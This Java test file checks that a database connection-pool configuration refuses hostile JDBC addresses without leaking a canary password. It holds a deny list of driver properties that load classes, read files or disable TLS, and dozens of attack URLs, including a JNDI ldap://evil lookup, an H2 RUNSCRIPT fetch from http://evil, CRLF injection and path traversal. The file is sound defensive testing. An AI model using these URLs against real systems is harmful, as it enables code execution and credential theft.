package io.seedcore.pool.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.seedcore.pool.PoolRegistry;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Addresses made to get a driver to load a class, read a file or talk to somebody else: none reaches a driver. */
@Tag("settings")
class HostileAddressTest {

    private static final String CANARY = "c4n4ry-never-shown";

    /** Each makes the driver create an object of a class that the address names, or run code otherwise. */
    private static final Map<String, List<String>> CLASS_LOADING = Map.of(
            "postgresql",
            List.of(
                    "socketFactory",
                    "socketFactoryArg",
                    "sslfactory",
                    "sslfactoryarg",
                    "sslhostnameverifier",
                    "sslpasswordcallback",
                    "authenticationPluginClassName",
                    "xmlFactoryFactory",
                    "connectExecutor",
                    "connectExecutorArg",
                    "classLoaderStrategy",
                    "jaasApplicationName",
                    "jaasLogin",
                    "kerberosServerName"),
            "mysql",
            List.of(
                    "autoDeserialize",
                    "queryInterceptors",
                    "exceptionInterceptors",
                    "connectionLifecycleInterceptors",
                    "statementInterceptors",
                    "propertiesTransform",
                    "socketFactory",
                    "loadBalanceExceptionChecker",
                    "loadBalanceStrategy",
                    "ha.loadBalanceStrategy",
                    "logger",
                    "clientInfoProvider",
                    "authenticationPlugins",
                    "defaultAuthenticationPlugin",
                    "serverConfigCacheFactory",
                    "queryInfoCacheFactory",
                    "parseInfoCacheFactory",
                    "profilerEventHandler",
                    "customCharsetMapping",
                    "sslContextProvider",
                    "keyManagerFactoryProvider"),
            "mariadb",
            List.of(
                    "socketFactory",
                    "credentialType",
                    "tlsSocketType",
                    "restrictedAuth",
                    "galeraAllowedState",
                    "pipe",
                    "localSocket"));

    /** Each reads a file or an address of the attacker's choice, or lets the server ask for one. */
    private static final Map<String, List<String>> FILE_READING = Map.of(
            "postgresql",
            List.of(
                    "service",
                    "loggerFile",
                    "loggerLevel",
                    "sslkey",
                    "sslcert",
                    "sslpassword",
                    "localSocketAddress",
                    "gssUseDefaultCreds"),
            "mysql",
            List.of(
                    "allowLoadLocalInfile",
                    "allowLoadLocalInfileInPath",
                    "allowUrlInLocalInfile",
                    "trustCertificateKeyStoreUrl",
                    "clientCertificateKeyStoreUrl",
                    "serverRSAPublicKeyFile",
                    "ociConfigFile",
                    "idTokenFile",
                    "propertiesFile",
                    "useConfigs"),
            "mariadb",
            List.of(
                    "allowLocalInfile",
                    "serverSslCert",
                    "serverRsaPublicKeyFile",
                    "cachingRsaPublicKeyFile",
                    "keyStore",
                    "trustStore"));

    /** Each has statements of the attacker's run, or weakens what protects the session. */
    private static final Map<String, List<String>> WEAKENING = Map.of(
            "postgresql",
            List.of("options", "preferQueryMode", "replication", "gssEncMode", "sslNegotiation", "loginTimeout"),
            "mysql",
            List.of(
                    "allowMultiQueries",
                    "sessionVariables",
                    "initSQL",
                    "useSSL",
                    "verifyServerCertificate",
                    "requireSSL",
                    "dnsSrv",
                    "socksProxyHost"),
            "mariadb",
            List.of(
                    "initSql",
                    "sessionVariables",
                    "permitRedirect",
                    "allowMultiQueries",
                    "useSsl",
                    "trustServerCertificate"));

    static Stream<Arguments> hostile() {
        List<Arguments> cases = new ArrayList<>();
        for (Map<String, List<String>> names : List.of(CLASS_LOADING, FILE_READING, WEAKENING)) {
            names.forEach((protocol, properties) -> properties.forEach(property -> {
                String base = "jdbc:" + protocol + "://db/shop?";
                cases.add(of(protocol, base + property + "=" + CANARY));
                cases.add(of(protocol, base + "user=app&password=" + CANARY + "&" + property + "=x"));
                cases.add(of(protocol, base + encodedFirst(property) + "=" + CANARY));
            }));
        }
        for (String protocol : List.of("postgresql", "mysql", "mariadb")) {
            structure(protocol).forEach(url -> cases.add(of(protocol, url)));
        }
        elsewhere().forEach(url -> {
            cases.add(of("postgresql", url));
            cases.add(of("mysql", url));
        });
        return cases.stream();
    }

    private static Arguments of(String protocol, String url) {
        return Arguments.of(protocol.equals("postgresql") ? "POSTGRES_URL" : "MYSQL_URL", url);
    }

    private static String encodedFirst(String name) {
        return "%" + Integer.toHexString(name.charAt(0)) + name.substring(1);
    }

    private static List<String> structure(String protocol) {
        String head = "jdbc:" + protocol + "://";
        return List.of(
                head + "(host=db,port=3306,password=" + CANARY + ")/shop",
                head + "address=(host=db)(password=" + CANARY + ")/shop",
                head + "address=(host=db)(autoDeserialize=true)/shop",
                head + "[(host=db,autoDeserialize=true)]/shop",
                head + "app:" + CANARY + "@(host=db)/shop",
                head + "app:" + CANARY + "@db@evil/shop",
                head + "app:" + CANARY + "@evil/@db/shop",
                head + "db#" + CANARY + "/shop",
                head + "db/shop#?" + CANARY,
                head + "db/shop?user=a#&password=" + CANARY,
                head + "db/shop/*" + CANARY + "*/",
                head + "db/shop--" + CANARY + " ",
                head + "db/shop?user=app?password=" + CANARY,
                head + "db/shop??password=" + CANARY,
                head + "db/shop;password=" + CANARY,
                head + "db/shop?password=" + CANARY + "&password=other",
                head + "db/shop?password=" + CANARY + "&Password=other",
                head + "db/shop?password=" + CANARY + "&sslmode=verify-full&sslMode=disable",
                head + "app:" + CANARY + "@db/shop?password=other",
                head + "app:" + CANARY + "@db/shop?user=other",
                head + "db/shop?password=" + CANARY + "&",
                head + "db/shop?password=" + CANARY + "&=x",
                head + "db/shop?password=" + CANARY + "&rest",
                head + "db/shop?password=" + CANARY + "&rest=1",
                head + "db/shop?password=" + CANARY + "%",
                head + "db/shop?password=" + CANARY + "%0",
                head + "db/shop?password=" + CANARY + "%zz",
                head + "db/shop?password=" + CANARY + "%00",
                head + "db/shop?password=" + CANARY + "%0d%0aX",
                head + "db/shop?user=app%0a&password=" + CANARY,
                head + "db/shop\r\nX-" + CANARY,
                head + "db\n" + CANARY + "/shop",
                head + "db\t/shop?password=" + CANARY,
                head + "db\u0000/shop?password=" + CANARY,
                head + "d\u0431/shop?password=" + CANARY,
                head + "\uff44\uff42/shop?password=" + CANARY,
                head + "db\u2025evil/shop?password=" + CANARY,
                head + "db\u2044shop/x?password=" + CANARY,
                head + "db\uff0fshop?password=" + CANARY,
                head + "db\\shop?password=" + CANARY,
                head + "db%2eevil/shop?password=" + CANARY,
                head + "db:0/shop?password=" + CANARY,
                head + "db:65536/shop?password=" + CANARY,
                head + "db:99999999999/shop?password=" + CANARY,
                head + "db:-1/shop?password=" + CANARY,
                head + "db:3306:3306/shop?password=" + CANARY,
                head + "db,/shop?password=" + CANARY,
                head + ",db/shop?password=" + CANARY,
                head + "-db/shop?password=" + CANARY,
                head + "/shop?password=" + CANARY,
                head + "db/?password=" + CANARY,
                head + "db?password=" + CANARY,
                head + "db/shop'--?password=" + CANARY,
                head + "db/shop\"x?password=" + CANARY,
                head + "db/shop%2f..%2fetc?password=" + CANARY,
                head + "db/../etc?password=" + CANARY,
                head + "db/" + "x".repeat(65) + "?password=" + CANARY,
                head + "db/shop?sslmode=" + CANARY,
                head + "${jndi:ldap://evil/" + CANARY + "}/shop",
                head + "db/${env:" + CANARY + "}",
                " " + head + "db/shop?password=" + CANARY,
                head + "db/shop?password=" + CANARY + " ",
                "url=" + head + "db/shop?password=" + CANARY);
    }

    private static List<String> elsewhere() {
        return List.of(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/" + CANARY + "'",
                "jdbc:h2:tcp://db/shop;PASSWORD=" + CANARY,
                "jdbc:hsqldb:hsql://db/" + CANARY,
                "jdbc:derby:shop;password=" + CANARY,
                "jdbc:sqlite:/etc/" + CANARY,
                "jdbc:oracle:thin:app/" + CANARY + "@db:1521:shop",
                "jdbc:sqlserver://db;password=" + CANARY,
                "jdbc:db2://db/shop:password=" + CANARY + ";",
                "jdbc:mysql:loadbalance://db/shop?password=" + CANARY,
                "jdbc:mysql:replication://db/shop?password=" + CANARY,
                "jdbc:mysql+srv://db/shop?password=" + CANARY,
                "mysqlx://app:" + CANARY + "@db/shop",
                "jdbc:mariadb:sequential://db/shop?password=" + CANARY,
                "jdbc:pgsql://db/shop?password=" + CANARY,
                "jdbc:aws-wrapper:postgresql://db/shop?password=" + CANARY,
                "jdbc:log4jdbc:postgresql://db/shop?password=" + CANARY,
                "JDBC:postgresql://db/shop?password=" + CANARY,
                "jdbc:POSTGRESQL://db/shop?password=" + CANARY,
                "jdbc:jdbc:postgresql://db/shop?password=" + CANARY,
                "jdbc:postgresql:shop?password=" + CANARY,
                "jdbc:postgresql:///shop?password=" + CANARY,
                "jdbc:postgresql://?password=" + CANARY,
                "java:comp/env/jdbc/" + CANARY,
                "ldap://evil/" + CANARY,
                "rmi://evil/" + CANARY,
                "http://db/" + CANARY,
                "file:///etc/" + CANARY,
                CANARY);
    }

    @Test
    void thereAreEnoughOfThem() {
        assertThat(hostile().distinct()).hasSizeGreaterThanOrEqualTo(200);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileAddress_isRefusedWithoutShowingWhatItHolds(String variable, String url) {
        ConfigurationException refusal = catchThrowableOfType(
                ConfigurationException.class,
                () -> PoolRegistry.of(Map.of(variable, url, variable.replace("URL", "USER"), "app"))
                        .close());
        assertThat((Throwable) refusal).as(url).isNotNull();
        assertThat(refusal.problems()).anySatisfy(problem -> {
            assertThat(problem.name()).isEqualTo(variable);
            assertThat(problem.expected()).isNotEmpty();
        });
        StringWriter everything = new StringWriter();
        refusal.printStackTrace(new PrintWriter(everything));
        assertThat(everything.toString()).doesNotContain(CANARY);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileAddressForRecovery_isRefusedToo(String variable, String url) {
        String prefix = variable.replace("URL", "");
        ConfigurationException refusal = catchThrowableOfType(
                ConfigurationException.class,
                () -> PoolRegistry.of(Map.of(
                                prefix + "HOST", "db",
                                prefix + "DB", "shop",
                                prefix + "USER", "app",
                                prefix + "RECOVERY_URL", url))
                        .close());
        assertThat((Throwable) refusal).as(url).isNotNull();
        assertThat((Throwable) refusal).hasMessageNotContaining(CANARY);
    }
}
